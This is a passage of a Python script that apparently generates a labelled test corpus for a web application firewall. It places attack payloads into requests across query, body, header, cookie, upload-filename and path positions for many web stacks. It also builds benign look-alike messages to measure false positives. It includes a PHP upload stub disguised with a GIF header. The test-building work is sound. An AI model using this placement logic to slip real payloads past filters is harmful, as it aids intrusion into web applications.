        if stack == "rails":
            return with_headers(_get(f"/api/users/{seg}.json"), {"User-Agent": ua})
        return with_headers(_get(f"/api/users/{seg}"), {"User-Agent": ua})
    raise ValueError(place)


def rs(place: str, stack: str, value: str, sub: str, k: int) -> dict[str, Any]:
    """The payload the way a WAF regression suite sends it: a path that is no route of ours, an arbitrary name."""
    name = RS_NAMES[k % len(RS_NAMES)]
    if stack == "php" or stack == "wp":
        name += "[]"
    elif stack == "express":
        name += "[a]"
    get_path = RS_GET_PATHS[k % len(RS_GET_PATHS)]
    post_path = RS_POST_PATHS[k % len(RS_POST_PATHS)]
    ua = STACK_UA.get(stack, UA)
    base = {"User-Agent": ua, "Accept": "*/*"}
    if place == "rs-query":
        query = urllib.parse.quote_plus(value) if stack in RAW_QUERY_STACKS else pairs(stack, name, value, sub)
        return {"method": "GET", "uri": f"{get_path}?{query}", "body": "", "headers": base}
    if place == "rs-form":
        return {"method": "POST", "uri": post_path, "body": pairs(stack, name, value, sub),
                "headers": {**base, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        doc: Any = stack_doc(stack, name, value) if k % 2 else {name: value}
        return {"method": "POST", "uri": post_path, "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**base, "Content-Type": "application/json"}}
    if place == "rs-xml":
        tag = name.split("[")[0]
        plain = f"<?xml version=\"1.0\"?><root><{tag}>{xml_text(value)}</{tag}></root>"
        body = stack_xml(stack, value) if k % 2 else plain
        return {"method": "POST", "uri": post_path, "body": body, "headers": {**base, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": post_path, "body": value,
                "headers": {**base, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-header:User-Agent":
        return {"method": "GET", "uri": get_path, "body": "", "headers": {**base, "User-Agent": value}}
    if place == "rs-header:Referer":
        return {"method": "GET", "uri": get_path, "body": "", "headers": {**base, "Referer": value}}
    if place == "rs-header:X-Custom":
        return {"method": "GET", "uri": get_path, "body": "", "headers": {**base, RS_HEADERS[k % 3]: value}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": get_path, "body": "",
                "headers": {**base, "Cookie": f"{RS_NAMES[k % len(RS_NAMES)]}={cookie_value(stack, value)}"}}
    if place == "rs-multipart-filename":
        return multipart(post_path, [("file", "<?php echo 'x'; ?>" if k % 2 else "GIF89a;", value)])
    if place in {"rs-header:X-Filename", "rs-header:X-File-Name"}:
        return {"method": "POST", "uri": post_path, "body": "GIF89a;",
                "headers": {**base, "Content-Type": "application/octet-stream", place.split(":")[1]: value}}
    if place == "rs-path":
        seg = pct_u(value) if stack == "aspnet" else urllib.parse.quote(value, safe="")
        path = ["/search/", "/index.php/", "/cgi-bin/test.cgi/", "/get/"][k % 4]
        return {"method": "GET", "uri": path + seg, "body": "", "headers": base}
    if place == "rs-header:Referer-url":
        return {"method": "GET", "uri": get_path, "body": "",
                "headers": {**base, "Referer": "https://www.example.org/search?q=" + value}}
    raise ValueError(place)


# placements for the titles whose input is not a parameter value
OWN_PLACES = {
    "php-script-file-upload": (["multipart-filename", "header:X-Filename"],
                               ["rs-multipart-filename", "rs-header:X-File-Name", "rs-header:X-Filename"]),
    "xss-libinjection-pl2": (["path", "header:Referer-url"], ["rs-path", "rs-header:Referer-url"]),
}


def pick(places: list[str], start: int, payload: str) -> str:
    """The place at `start` in the rotation, or the next one a line break allows."""
    for step in range(len(places)):
        place = places[(start + step) % len(places)]
        if "\n" not in payload or place not in LINE_SAFE:
            return place
    raise ValueError(payload)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, entries) in enumerate(TITLES):
        own, regress = OWN_PLACES.get(sub, (OURS, RS))
        for i, entry in enumerate(entries):
            stack, payload = entry[0], entry[1]
            names = STACK_NAMES[stack]
            name = entry[2] if len(entry) > 2 else names[(t + i) % len(names)]
            k = t * 7 + i
            place = pick(own, t * 5 + i, payload)
            if place == "header:Referer-url":
                rec = with_headers(_get("/api/users?page=3"),
                                   {"User-Agent": STACK_UA.get(stack, UA),
                                    "Referer": "https://www.example.org/search?q=" + payload})
            else:
                rec = ours(place, stack, name, payload, sub)
            n += 1
            yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": place.replace("-url", ""), "payload": payload}
            place = pick(regress, t * 3 + i, payload)
            n += 1
            yield {**rs(place, stack, payload, sub, k), "id": f"{NAME}-{category}-{n:04d}", "category": category,
                   "sub": sub, "placement": place.replace("-url", ""), "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, as people type them
# ---------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    "the PHP 8.3 upgrade is scheduled for Tuesday, php-fpm pools restart at 6am",
    "anyone tried the new WordPress block editor? the gallery block finally works",
    "Laravel queue workers are lagging again, bumping the horizon supervisors",
    "Drupal security release is out, patching the marketing site tonight",
    "the script that rotates logs runs at midnight, ping me if it fails",
    "I wrote a small script to import the CSV, it takes about 2 minutes",
    "the alert fired for disk usage on db-2, cleaning old backups",
    "can we silence the alert channel over the weekend?",
    "the onboarding document is in the shared drive under HR",
    "open the window in the meeting room, it gets stuffy after lunch",
    "style guide says we use sentence case for button labels",
    "imported 3,200 contacts from the old CRM, dedupe next",
    "the eval results for the ranking model are in the sheet",
    "system status page shows all green",
    "exec summary for the board goes out on Friday",
    "include the Q3 numbers in the appendix please",
    "the object storage bill went down 12% after lifecycle rules",
    "the applet on the legacy intranet page is gone, replaced with a PDF",
    "meta description for the landing page needs to be under 160 chars",
    "the base image is now debian bookworm slim",
    "link to the retro board is pinned in the channel",
    "we embed the status widget on the help centre",
    "the frame rate drops on older Android phones",
    "utf-8 everywhere please, the old latin-1 exports break names like Zoë and José",
    "charset issues in the export are fixed in 2.4.1",
    "the cookie banner copy was approved by legal",
    "location data is only kept for 30 days",
    "the prompt for the survey asks about onboarding",
    "please confirm the venue for the offsite",
    "the constructor of the new office finishes in May",
    "template for the release notes is in Confluence",
    "Angular migration is done for the settings pages",
    "the stream of webhooks from Stripe is stable now",
    "wrapper around the payments SDK has retries now",
    "upload limit for attachments is 25 MB",
    "config for staging lives in the infra repo",
    "variable pay is paid out in March",
    "function owners are listed in the RACI sheet",
    "global all-hands is at 5pm CET",
    "self-review forms are due next week",
    "top priority this sprint: the billing export",
    "the parent company announced the merger today",
    "this is the third time the printer jammed today",
    "document.pdf was too large for email, shared the link instead",
    "window.location on the docs site redirects to the new domain, expected",
    "the import statement order is enforced by ruff now",
    "we moved from setTimeout polling to websockets in the dashboard",
    "the serialize helper now writes JSON instead of the old format",
    "input validation on the signup form is server-side too",
    "the filter on the reports page resets when you change tabs",
    "phpinfo pages are disabled in production, use the health endpoint",
    "the system prompt for the support bot was updated",
    "the script tag for analytics moved into the tag manager",
    "the onload time for the homepage is 1.2s on 4G",
    "the onerror handler on avatars now falls back to initials",
    "the iframe embed for the video player needs a title attribute for a11y",
    "the vbscript macros in the old finance workbook are retired",
    "UTF-7 and other legacy encodings are no longer accepted by the importer",
    "the expression builder in the reporting tool supports dates now",
    "data URLs for small icons are inlined by the bundler",
]
KEYWORDS = [
    "script", "alert", "document", "window", "style", "import", "eval", "system", "exec", "include", "object",
    "applet", "embed", "meta", "base", "link", "frame", "charset", "cookie", "location", "prompt", "confirm",
    "constructor", "template", "stream", "wrapper", "upload", "config", "variable", "function", "global", "filter",
    "input", "output", "memory", "phar", "expect", "glob", "serialize", "session",
]
FRAMES = [
    "the {kw} section of the onboarding handbook needs an update",
    "{kw} came up twice in the retro, adding it to the agenda",
    "can someone rename the '{kw}' column in the planning sheet?",
    "quick question: does the {kw} checklist apply to contractors too?",
    "moved the {kw} notes to the wiki, link in the channel topic",
    "who owns {kw} on the new team page? the old owner left in May",
]
SLACK_MARKUP = [
    "<@U0123ABCD> can you review <https://github.com/acme/api/pull/412|PR 412>?",
    "deploy finished :white_check_mark: <https://ci.example.com/builds/9912|build 9912>",
    "<!here> lunch is in the kitchen",
    "<#C0123456789|general> has the all-hands recording",
    "moved the alert rules to <https://grafana.example.com/alerting/list|grafana>",
    "<@U0456EFGH> the script finished, output is in <https://drive.example.com/file/d/1a2b|this doc>",
    "<!channel> the window cleaners come on Thursday, please clear the desks",
    "style review with <@U0789IJKL> at 3pm",
    "<https://www.php.net/manual/en/function.include.php|include docs> for the PHP folks",
    "<https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie|Document.cookie on MDN>",
]
PUBLIC_URLS = [
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.wordpress.org/plugins/security/",
    "https://laravel.com/docs/11.x/blade",
    "https://www.drupal.org/docs/security-in-drupal",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/CSS/@import",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://docs.djangoproject.com/en/5.0/ref/templates/builtins/",
    "https://flask.palletsprojects.com/en/3.0.x/templating/",
    "https://guides.rubyonrails.org/security.html",
    "https://learn.microsoft.com/en-us/aspnet/core/security/cross-site-scripting",
    "https://expressjs.com/en/advanced/best-practice-security.html",
    "https://pkg.go.dev/html/template",
    "https://angularjs.org/",
    "https://docs.spring.io/spring-framework/reference/web/webmvc.html",
    "https://example.com/blog/2024/05/how-we-moved-to-php-8",
    "https://cdn.example.org/assets/app.js?v=3.1.4",
    "https://www.example.co.uk/shop/window-blinds?colour=white",
    "https://maps.example.com/place/Script+Road,+Leeds",
    "https://news.example.com/2024/06/10/alert-level-lowered",
    "https://docs.example.com/styleguide/#typography",
    "https://status.example.com/incidents/2024-06-01",
]
PROSE = [
    "Customer asks why the import from Excel drops the currency symbol",
    "user says the document preview is blank on Safari",
    "complaint: alert emails arrive twice",
    "refund request for order 10042, window was broken on delivery",
    "ticket about the style of the invoice PDF",
    "Please include VAT number on the invoice",
    "system maintenance notice for Saturday night",
    "the script for the webinar needs review",
    "object storage quota warning for team Beta",
    "user cannot upload a profile photo larger than 5 MB",
    "cookie consent banner does not close on iOS",
    "location field shows the wrong city for Zürich",
    "template for the welcome email has a typo",
    "the config screen times out for large teams",
    "global search does not find archived projects",
    "filter by date is off by one day",
    "session expired too early for users in Sydney",
    "asked to confirm the meeting time: 10:30 or 14:00?",
    "prompt payment discount of 2% if paid within 10 days",
    "the base price is 49 EUR per seat per month",
    "O'Brien & Sons, invoice #2231, paid in full",
    "Müller GmbH wants a quote for 40 seats",
    "please call back re: the eval licence for 30 days",
    "frame order for the new office: 12 posters",
    "the applet question was about the old Java tool, no longer used",
    "link in the password reset email goes to the old domain",
    "the charset of the CSV export should be UTF-8 with BOM",
    "wrapper paper for the conference gifts ordered",
    "stream key for the town hall was rotated",
    "memory usage graph attached for the weekly report",
]
SEARCHES = [
    "script writer", "alert manager", "document control", "window cleaner", "style guide", "import export",
    "system administrator", "exec assistant", "include", "object storage", "embedded systems", "meta ads",
    "base salary", "link building", "frame maker", "cookie jar", "location manager", "prompt engineer",
    "template designer", "stream engineer", "upload", "config", "global", "filter coffee", "input devices",
    "O'Brien", "Smith & Sons", "AT&T", "R&D", "Q&A lead", "C# developer", "C++", "100% remote", "Zoë", "José",
    "Siobhán", "Łukasz", "Søren", "München", "São Paulo", "php developer", "wordpress", "laravel", "drupal",
    "angular", "javascript", "vbscript", "asp.net", "django", "flask", "rails", "golang", "cgi", "jsp",
    "data science", "marketing", "onboarding", "support", "sales", "finance",
]
PROFILES = [
    ("Ann Scripture", "12 Script Road, Leeds LS6 2AB"),
    ("Jon Alert", "4 Window Lane, Bristol BS1 4DJ"),
    ("María-José Object", "Calle de la Base 7, Madrid"),
    ("Li Wei", "88 Import Street, Singapore 049712"),
    ("Chidi Okafor", "Flat 3, 21 Frame Court, Lagos"),
    ("Aoife O'Sullivan", "The Old Link House, Cork"),
    ("Kowalski, Jan", "ul. Stylowa 5, 00-001 Warszawa"),
    ("Priya Iyer", "22 Document Avenue, Bengaluru 560001"),
    ("Tom Evalson", "Systemweg 9, 1011 AB Amsterdam"),
    ("Zoë Charset", "3 rue du Cookie, 75003 Paris"),
    ("Hans Meta", "Embedstraße 12, 10115 Berlin"),
    ("Sam Applet", "PO Box 17, Prompt Springs, NV 89001"),
    ("Noor Al-Hassan", "Location Tower, Floor 14, Dubai"),
    ("Beatriz Lima", "Rua do Filtro 40, Lisboa"),
    ("Kenji Sato", "1-2-3 Stream, Shibuya, Tokyo"),
    ("Fatima Zahra", "9 Template Close, Casablanca"),
]
BIO_EXTRAS = [
    "PHP and WordPress developer, 10 years of plugins",
    "I write scripts for podcasts and short films",
    "front-end: Angular, React, a bit of Vue; CSS style nerd",
    "security engineer, I talk about XSS and CSP at meetups",
    "Laravel + Vue, coffee, cycling",
    "ASP.NET developer, previously VBScript in classic ASP days",
]
UPLOADS = ["photo.jpg", "CV-2024.pdf", "php-cheatsheet.pdf", "script-draft.docx", "window-measurements.xlsx",
           "style-guide-v2.pdf", "team photo (1).png", "alert-runbook.md", "scan_0001.tiff", "logo.svg"]


def benign() -> Iterator[dict[str, Any]]:
    texts = SLACK_TEXTS + [f.format(kw=kw) for kw in KEYWORDS for f in FRAMES] + BIO_EXTRAS
    n = yield from chat_and_bio(texts, NAME)
    for text in SLACK_MARKUP:
        n += 1
        yield {**slack_message(text, n), "id": f"{NAME}-slack-{n:04d}", "category": "benign", "placement": "json"}
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    for term in SEARCHES:
        for rec in (_get(_query("/api/users", [("q", term), ("page", "1")])),
                    _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", term)]),
                    _json("/api/users/search", {"query": term, "filters": {"active": True}, "page": 1})):
            n += 1
            yield {**rec, "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "mixed"}
    for name, address in PROFILES:
        for rec in (_json("/api/users", {"name": name, "address": address, "email": "user@example.org"}),
                    _json("/api/users/42", {"display_name": name, "location": address.split(",")[-1].strip()})):
            n += 1
            yield {**rec, "id": f"{NAME}-profile-{n:04d}", "category": "benign", "placement": "json"}
    uploads = (multipart("/api/users/42/avatar", [("title", f.rsplit(".", 1)[0], None), ("file", "GIF89a;", f)])
               for f in UPLOADS)
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart")
    xml_docs = [stack_xml(s, t) for s, t in (("rails", "Ann Script"), ("aspnet", "Jon Alert"), ("go", "Window Co"),
                                             ("wp", "my-blog"), ("spring", "O'Brien & Sons"))]
    yield from numbered((with_headers({**_json("/api/users", {}), "body": d}, {"Content-Type": "application/xml"})
                         for d in xml_docs), f"{NAME}-xml", n, "xml")


if __name__ == "__main__":
    print_records(attacks(), benign())
